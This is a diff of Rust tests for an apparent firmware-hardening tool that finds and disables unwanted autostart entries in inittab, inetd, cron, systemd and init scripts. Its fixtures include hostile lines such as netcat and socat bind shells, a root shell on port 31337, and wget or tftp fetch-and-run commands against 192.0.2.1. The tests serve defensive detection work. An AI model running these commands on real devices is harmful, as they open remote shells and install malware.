@@ -7,192 +7,122 @@ use crate::wall::process_snapshot::{Program, Transport};
 use crate::wall::report::Judgement;
 use alloc::vec;
 
-/// A file, its effect, and its later text; the same where nothing is found.
-type Case = (Kind, &'static str, &'static [(u32, Does, &'static str)], &'static str);
+mod script_cases;
 
-use Does::{Fetch, Shell, Telnet};
-use Kind::{Cron, CronOfUsers, Inetd, Inittab, Script, Unit, Xinetd};
-
-const CASES: &[Case] = &[
-    (
-        Inittab,
-        "::sysinit:/etc/init.d/rcS\r\n# ::respawn:telnetd\n::respawn:/usr/sbin/telnetd -F -l /bin/sh\n",
-        &[(3, Telnet, "/usr/sbin/telnetd")],
-        "::sysinit:/etc/init.d/rcS\r\n# ::respawn:telnetd\n# komainu: ::respawn:/usr/sbin/telnetd -F -l /bin/sh\n",
-    ),
-    (
-        Inittab,
-        "tn:2345:respawn:busybox telnetd -p 2323",
-        &[(1, Telnet, "telnetd")],
-        "# komainu: tn:2345:respawn:busybox telnetd -p 2323",
-    ),
-    (
-        Inittab,
-        "::sysinit:/etc/init.d/rcS; telnetd &\n",
-        &[(1, Telnet, "telnetd")],
-        "::sysinit:/etc/init.d/rcS; true &\n",
-    ),
-    (Inittab, "tn:2:off:/usr/sbin/telnetd\n::respawn:-/bin/sh\n:::\n::\nx", &[], ""),
-    (
-        Inetd,
-        "#telnet stream tcp nowait root /x telnetd\ntelnet\tstream tcp nowait root /usr/sbin/tcpd in.telnetd\n",
-        &[(2, Telnet, "in.telnetd")],
-        "#telnet stream tcp nowait root /x telnetd\n# komainu: telnet\tstream tcp nowait root /usr/sbin/tcpd in.telnetd\n",
-    ),
-    (
-        Inetd,
-        "31337 stream tcp nowait root /bin/sh sh -i\nftp stream tcp nowait root /sbin/ftpd ftpd",
-        &[(1, Shell, "/bin/sh")],
-        "# komainu: 31337 stream tcp nowait root /bin/sh sh -i\nftp stream tcp nowait root /sbin/ftpd ftpd",
-    ),
-    (
-        Inetd,
-        "0.0.0.0:telnet stream tcp nowait root /opt/odd odd\ntelnet",
-        &[(1, Telnet, "/opt/odd"), (2, Telnet, "telnet")],
-        "# komainu: 0.0.0.0:telnet stream tcp nowait root /opt/odd odd\n# komainu: telnet",
-    ),
-    (
-        Xinetd,
-        "defaults\n{\n}\nservice telnet\n{\n\tdisable = no\n\tserver = /usr/sbin/in.telnetd\n}\n",
-        &[(4, Telnet, "/usr/sbin/in.telnetd")],
-        "defaults\n{\n}\nservice telnet\n{\n# komainu: \tdisable = no\n\tserver = /usr/sbin/in.telnetd\n\tdisable = yes\n}\n",
-    ),
-    (
-        Xinetd,
-        "service odd\n{\n server = /bin/busybox\n server_args = telnetd -i\n}",
-        &[(1, Telnet, "telnetd")],
-        "service odd\n{\n server = /bin/busybox\n server_args = telnetd -i\n\tdisable = yes\n}",
-    ),
-    (Xinetd, "service telnet\n{\n disable = yes\n}\nservice x\n{\nserver = /y\n}\nservice telnet", &[], ""),
-    (
-        Script,
-        "#!/bin/sh\nif [ -x /usr/sbin/telnetd ]; then /usr/sbin/telnetd -l /bin/login & fi\n",
-        &[(2, Telnet, "/usr/sbin/telnetd")],
-        "#!/bin/sh\nif [ -x /usr/sbin/telnetd ]; then /bin/true -l /bin/login & fi\n",
-    ),
-    (
-        Script,
-        "nvram=1 nohup busybox \\\r\n  telnetd -p 2323 >/dev/null 2>&1 &\necho done",
-        &[(1, Telnet, "telnetd")],
-        "nvram=1 nohup busybox \\\r\n  true -p 2323 >/dev/null 2>&1 &\necho done",
-    ),
-    (
-        Script,
-        "start() {\n start-stop-daemon -S -q -b -x /usr/sbin/telnetd -- -F\n}\nstop() {\n start-stop-daemon -K -x /usr/sbin/telnetd\n}\n",
-        &[(2, Telnet, "/usr/sbin/telnetd")],
-        "start() {\n start-stop-daemon -S -q -b -x /bin/true -- -F\n}\nstop() {\n start-stop-daemon -K -x /usr/sbin/telnetd\n}\n",
-    ),
-    (
-        Script,
-        "start_service() {\n\tprocd_set_param command /usr/sbin/telnetd -F -l /bin/login.sh\n}\n",
-        &[(2, Telnet, "/usr/sbin/telnetd")],
-        "start_service() {\n\tprocd_set_param command /bin/true -F -l /bin/login.sh\n}\n",
-    ),
-    (
-        Script,
-        "PROG=\"/usr/sbin/telnetd\" # ours\nprocd_set_param command \"${PROG}\"\n",
-        &[(1, Telnet, "/usr/sbin/telnetd")],
-        "PROG=\"/bin/true\" # ours\nprocd_set_param command \"${PROG}\"\n",
-    ),
-    (
-        Script,
-        "sh -c \"sleep 5; telnetd -l /bin/sh\" &\n(telnetd)\nx=`telnetd`\n",
-        &[(1, Telnet, "telnetd"), (2, Telnet, "telnetd"), (3, Telnet, "telnetd")],
-        "sh -c \"sleep 5; true -l /bin/sh\" &\n(true)\nx=`true`\n",
-    ),
-    (
-        Script,
-        "tel\"\"net'd' -p 99 \n/sbin/te\0lnetd\n\"telnetd\" -x\n",
-        &[(1, Telnet, "telnetd"), (2, Telnet, "/sbin/telnetd"), (3, Telnet, "telnetd")],
-        "",
-    ),
-    (
-        Script,
-        "killall telnetd\necho \"starting telnetd; telnetd\"\n# telnetd\ntelnetd() { :; }\ncase $1 in\ntelnetd) x;;\nesac\n\
-         pidof telnetd && echo\nbusybox pkill telnetd\nls /usr/sbin/telnetd > telnetd\nN=telnetd\nrm 'telnetd'\n\
-         /etc/init.d/telnetd stop\n",
-        &[],
-        "",
-    ),
-    (
-        Script,
-        "nc -l -p 4444 -e /bin/sh &\nnc ntp 123 < /dev/null\nsocat TCP-LISTEN:9,fork EXEC:/bin/ash\ntcpsvd 0 99 sh -i\n",
-        &[(1, Shell, "nc"), (3, Shell, "socat"), (4, Shell, "tcpsvd")],
-        "true -l -p 4444 -e /bin/sh &\nnc ntp 123 < /dev/null\ntrue TCP-LISTEN:9,fork EXEC:/bin/ash\ntrue 0 99 sh -i\n",
-    ),
-    (
-        Script,
-        "cd /tmp || cd /var; wget http://192.0.2.1/b; chmod 777 b; ./b\n",
-        &[(1, Fetch, "wget")],
-        "cd /tmp || cd /var; true http://192.0.2.1/b; chmod 777 b; ./b\n",
-    ),
-    (
-        Script,
-        "wget -O /tmp/list https://maker.example/list; chmod 644 /tmp/list\nwget -q http://x/ || echo no | sh\nchmod 777 /tmp/socket\n/tmp/x\n",
-        &[],
-        "",
-    ),
-    (
-        Cron,
-        "# telnetd\n*/5 * * * * wget -qO- http://192.0.2.1/x | sh\n@reboot telnetd\n0 3 * * * killall telnetd; reboot\n",
-        &[(2, Fetch, "wget"), (3, Telnet, "telnetd")],
-        "# telnetd\n# komainu: */5 * * * * wget -qO- http://192.0.2.1/x | sh\n# komainu: @reboot telnetd\n0 3 * * * killall telnetd; reboot\n",
-    ),
-    (
-        Cron,
-        "* * * * * echo Zg== | base64 -d | busybox ash",
-        &[(1, Fetch, "base64")],
-        "# komainu: * * * * * echo Zg== | base64 -d | busybox ash",
-    ),
-    (
-        CronOfUsers,
-        "PATH=/bin\n@daily root busybox tftp -g -r x 192.0.2.1 && sh /tmp/x\n* * * * * root telnetd\n",
-        &[(2, Fetch, "tftp"), (3, Telnet, "telnetd")],
-        "PATH=/bin\n# komainu: @daily root busybox tftp -g -r x 192.0.2.1 && sh /tmp/x\n# komainu: * * * * * root telnetd\n",
-    ),
-    (
-        Unit,
-        "[Service]\n# ExecStart=telnetd\nExecStart=-/usr/sbin/in.telnetd \\\n  -h\nExecStop=/bin/kill telnetd\n",
-        &[(3, Telnet, "/usr/sbin/in.telnetd")],
-        "[Service]\n# ExecStart=telnetd\nExecStart=-/bin/true \\\n  -h\nExecStop=/bin/kill telnetd\n",
-    ),
-];
+use Kind::{Inetd, Inittab, Script, Xinetd};
+use script_cases::{SCRIPTS, TABLES};
 
 #[test]
 fn every_line_that_starts_what_nobody_wants_is_found_and_goes() {
-    for (kind, text, expected, after) in CASES {
-        let found = autostart_entries(*kind, text.as_bytes());
-        let seen: Vec<_> = found.iter().map(|one| (one.line, one.does, one.program.as_str())).collect();
-        assert_eq!(&seen, expected, "{text}");
-        let mut bytes = text.as_bytes().to_vec();
-        // A table's earlier entries move nothing: numbers stay, but for xinetd's.
-        for one in found.iter().rev() {
-            let changed = without(*kind, &bytes, one.line, &one.says);
-            bytes = changed.unwrap_or_else(|| panic!("{one:?} of {text}"));
-        }
-        assert_eq!(autostart_entries(*kind, &bytes), [], "{}", String::from_utf8_lossy(&bytes));
-        if !after.is_empty() {
-            assert_eq!(String::from_utf8_lossy(&bytes), *after);
-        }
+    for (kind, text, expected, after) in TABLES {
+        found_and_gone(*kind, text, expected, after);
     }
+    for (text, expected, after) in SCRIPTS {
+        found_and_gone(Script, text, expected, after);
+    }
+}
+
+fn found_and_gone(kind: Kind, text: &str, expected: &[(u32, Does, &str)], after: &str) {
+    let found = autostart_entries(kind, text.as_bytes());
+    // A variable's name stands for a value that is not known.
+    let seen: Vec<_> = found.iter().map(|one| (one.line, one.does, one.program.as_str())).collect();
+    assert_eq!(seen, expected, "{text}");
+    let mut bytes = text.as_bytes().to_vec();
+    // A table's earlier entries move nothing: numbers stay, but for xinetd's.
+    for one in found.iter().rev() {
+        assert_eq!(one.fixed, None, "{one:?}");
+        let edit = edit::without(kind, &bytes, one.line, &one.says);
+        let edit = edit.unwrap_or_else(|why| panic!("{one:?} of {text}: {why}")).unwrap();
+        let back = edit::taken_back(&edit.bytes, one.line, &edit.was, &edit.is);
+        assert_eq!(back.as_ref(), Some(&bytes), "{text}");
+        bytes = edit.bytes;
+    }
+    assert_eq!(autostart_entries(kind, &bytes), [], "{}", String::from_utf8_lossy(&bytes));
+    if !after.is_empty() {
+        assert_eq!(String::from_utf8_lossy(&bytes), *after);
+    }
+}
+
+#[test]
+fn what_cannot_be_told_is_said_and_what_cannot_be_proven_is_not_changed() {
+    let doubt = |text: &str| read(Script, text.as_bytes(), &[]).doubt.map(|doubt| doubt.line);
+    for (text, line) in [
+        ("a\n$(pick) -x\n", Some(2)),
+        ("eval \"$(pick)\"\n", Some(1)),
+        ("read X\n\n$X now\n", Some(3)),
+        (". \"$(pick)\"\n", Some(1)),
+        ("never() { $(pick); }\n", None),
+        ("case $1 in start) echo;; esac\n\"$@\"\n", None),
+        ("X=/bin/a; $X; eval \"export A=$1\"\n", None),
+        ("echo $(pick)\n", None),
+        (". \"$ROOT/lib/functions.sh\"\n. ${ROOT}/lib/x.sh\nprocd_append_param command $args\n", None),
+    ] {
+        assert_eq!(doubt(text), line, "{text}");
+    }
+    for text in [
+        "for s in telnetd httpd; do $s & done\n",
+        "C='sleep 1; telnetd'; eval \"$C\"\n",
+        "exec -a other telnetd\n",
+        "wget -O /tmp/x http://x/x; . /tmp/x\n",
+        "#!/lib/init/init-d-script\nDAEMON=/usr/sbin/sshd\n",
+        "#!/sbin/openrc-run\ncommand=/usr/sbin/sshd\n",
+    ] {
+        let all = autostart_entries(Script, text.as_bytes());
+        assert!(all.len() == 1 && all[0].fixed.is_some(), "{text}: {all:?}");
+        assert!(edit::without(Script, text.as_bytes(), all[0].line, &all[0].says).is_err(), "{text}");
+    }
+    let supervised = autostart_entries(Kind::Supervised, b"#!/bin/sh\nexec telnetd -F\n");
+    assert!(supervised[0].fixed.is_some(), "it would start again each second");
+    let framework = b"#!/usr/bin/env /lib/runit/invoke-run\nsshd -t || exit\nexec sshd -D\n";
+    assert_eq!(autostart_entries(Kind::Supervised, framework).len(), 1);
+    let python = b"#!/usr/bin/env python3\ntelnetd\n";
+    assert_eq!(read(Script, python, &[]), Reading::default());
+}
+
+#[test]
+fn a_script_leads_to_the_scripts_that_it_calls() {
+    let text = "#!/bin/sh /etc/rc.common\nD=/app\n$D/start.sh &\nsh /opt/a b\n. /lib/functions.sh\nfor i in /etc/rc.d/S??*; do\n $i start\ndone\n\
+                run-parts /etc/ppp/up.d\nnice /opt/c\nnever() { /opt/no; }\nstart() { /opt/yes; }\nboot.sh\nservice odd start\n";
+    let reading = read(Script, text.as_bytes(), &[]);
+    let seen: Vec<_> =
+        reading.calls.iter().map(|call| (call.path.as_str(), call.folder, call.sourced)).collect();
+    let expected = [
+        ("/app/start.sh", false, false),
+        ("/opt/a", false, false),
+        ("/lib/functions.sh", false, true),
+        ("/etc/rc.d", true, false),
+        ("/etc/ppp/up.d", true, false),
+        ("/opt/c", false, false),
+        ("/opt/yes", false, false),
+        ("boot.sh", false, false),
+        ("/etc/init.d/odd", false, false),
+        ("/etc/rc.common", false, true),
+    ];
+    assert_eq!(seen, expected);
+    // A library's function starts something where another file calls it.
+    let library = b"up() { telnetd; }\n";
+    assert_eq!(read(Script, library, &[]).entries, []);
+    let words = read(Script, b". /lib/x.sh\nup\n", &[]).words;
+    assert_eq!(read(Script, library, &words).entries.len(), 1);
 }
 
 #[test]
 fn a_line_that_has_changed_is_left_alone() {
     let text = b"::respawn:telnetd\n::respawn:x\n";
     let found = autostart_entries(Inittab, text);
-    assert_eq!(without(Inittab, text, 1, "::respawn:telnetd -F"), None);
-    assert_eq!(without(Inittab, text, 2, &found[0].says), None);
-    assert_eq!(without(Inittab, text, 0, &found[0].says), None);
-    assert!(without(Inittab, text, 1, &found[0].says).is_some());
-}
-
-#[test]
-fn quotes_that_would_come_apart_are_left_alone() {
-    let text = b"sh -c \"a 'b'te\"lnetd\n";
-    for one in autostart_entries(Script, text) {
-        assert_eq!(without(Script, text, one.line, &one.says), None);
-    }
+    assert_eq!(edit::without(Inittab, text, 1, "::respawn:telnetd -F"), Ok(None));
+    assert_eq!(edit::without(Inittab, text, 2, &found[0].says), Ok(None));
+    assert_eq!(edit::without(Inittab, text, 0, &found[0].says), Ok(None));
+    assert!(edit::without(Inittab, text, 1, &found[0].says).unwrap().is_some());
+    // The line is put back at its place, or where it is alone.
+    let (was, is) = (&b"telnetd"[..], &b"true"[..]);
+    let back = |text: &str| {
+        edit::taken_back(text.as_bytes(), 2, was, is).map(|text| String::from_utf8(text).unwrap())
+    };
+    assert_eq!(back("true\ntrue\ntrue"), Some("true\ntelnetd\ntrue".into()));
+    assert_eq!(back("new\nnew\ntrue\r\n"), Some("new\nnew\ntelnetd\r\n".into()));
+    assert_eq!(back("true\nnew\ntrue\n"), None, "which of them?");
+    assert_eq!(back("true x\n"), None);
 }
 
 #[test]
@@ -202,16 +132,22 @@ fn a_file_without_end_is_read_in_bounds() {
     let long = ["telnetd ", &"x".repeat(8_000), "日"].concat();
     let found = autostart_entries(Script, long.as_bytes());
     assert_eq!(found[0].says.len(), SAYS_BYTES_MAX);
-    assert!(without(Script, long.as_bytes(), 1, &found[0].says).unwrap().starts_with(b"true xx"));
-    let assigned = "a=telnetd\n".repeat(6_000);
-    assert!(autostart_entries(Script, assigned.as_bytes()).len() <= STARTERS_MAX);
+    assert!(edit::without(Script, long.as_bytes(), 1, &found[0].says).is_err(), "too long to be remembered");
+    for deep in
+        ["$(", "{ ", "case x in y) ", "\"$(", "(", "sh -c '", "eval \"", "${a:-", "`", "<<E\n", "a() { "]
+    {
+        assert!(autostart_entries(Script, deep.repeat(4_000).as_bytes()).len() <= STARTERS_MAX);
+    }
+    let names = "a=$a$b;b=$b$a;a=$b$b;$a $b\n".repeat(2_000);
+    assert!(autostart_entries(Script, names.as_bytes()).len() <= STARTERS_MAX);
 }
 
 #[test]
-fn a_line_on_the_firmwares_own_medium_cannot_be_changed_and_that_is_said() {
-    let found = |text: &str, changeable| {
+fn a_line_that_cannot_be_changed_is_told_and_firmware_that_fetches_is_no_infection() {
+    let found = |text: &str, fixed: Option<&str>, origin| {
         let starter = autostart_entries(Inittab, text.as_bytes()).remove(0);
-        [FoundAutostart { file: "/etc/inittab".into(), kind: Inittab, starter, changeable }]
+        let fixed = fixed.map(|why| crate::fault::text(format_args!("{why}")));
+        [FoundAutostart { file: "/etc/inittab".into(), kind: Inittab, starter, origin, fixed }]
     };
     let judged = |found: &[FoundAutostart], policy: &Policy| {
         let mut report = Report::default();
@@ -219,23 +155,28 @@ fn a_line_on_the_firmwares_own_medium_cannot_be_changed_and_that_is_said() {
         report
     };
     let strict = policy(vec![]);
-    let report = judged(&found("::respawn:telnetd", true), &strict);
+    let report = judged(&found("::respawn:telnetd", None, Origin::Unknown), &strict);
     assert_eq!(&*report.findings[0].what, "/etc/inittab line 1 starts telnet: ::respawn:telnetd");
-    assert!(!report.findings[0].infection);
     let remediation =
         Remediation::StopStarting { file: "/etc/inittab".into(), line: 1, says: "::respawn:telnetd".into() };
     assert_eq!(report.remediations(), [&remediation]);
-    let report = judged(&found("::respawn:telnetd", false), &strict);
+    let report = judged(&found("::respawn:telnetd", Some("it is read-only"), Origin::Firmware), &strict);
     assert!(matches!(report.judgement(Measure::Respawn), Judgement::CannotEnforce(_)));
-    let report = judged(&found("::once:wget http://192.0.2.1/x -O- | sh", true), &strict);
-    assert!(report.findings[0].infection);
+    let fetches = "::once:wget http://192.0.2.1/x -O- | sh";
+    let report = judged(&found(fetches, None, Origin::Added), &strict);
+    assert!(!report.findings[0].is_infection() && report.findings[0].remediation.is_some());
+    let report = judged(&found(fetches, None, Origin::OverFirmware), &strict);
+    assert!(!report.findings[0].is_infection() && report.findings[0].remediation.is_none());
+    let report = judged(&found(fetches, None, Origin::Firmware), &strict);
+    assert!(report.findings.is_empty() && report.notes.len() == 1);
     let allowed = policy(vec![Service {
         program: "telnetd".into(),
         transport: Transport::Tcp,
         ports: (23, 23),
         reach: Reach::Lan,
+        public: false,
     }]);
-    assert_eq!(judged(&found("::respawn:/bin/telnetd", true), &allowed), Report::default());
+    assert_eq!(judged(&found("::respawn:/bin/telnetd", None, Origin::Added), &allowed), Report::default());
 }
 
 #[test]
@@ -249,10 +190,13 @@ fn only_the_program_that_reads_a_file_is_told_of_its_change() {
             there: true,
             replaced: false,
             medium: crate::wall::process_snapshot::Medium::Firmware,
+            elsewhere: false,
         },
         name: name.into(),
         first_word: name.into(),
         second_word: String::new(),
+        stopped: false,
+        namespaced: false,
         holds_watchdog: false,
         writes_flash: false,
     };
